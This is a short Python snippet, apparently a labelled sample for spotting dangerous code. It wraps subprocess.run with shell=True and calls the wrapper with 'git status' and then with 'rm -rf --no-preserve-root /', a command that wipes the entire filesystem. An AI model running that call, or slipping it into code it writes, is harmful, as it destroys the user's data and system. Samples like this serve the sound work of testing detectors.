# tricky: the danger is in the caller
import subprocess

def run(command, quiet=True):
    return subprocess.run(command, shell=True, capture_output=quiet)

run("git status")
run("rm -rf --no-preserve-root /")
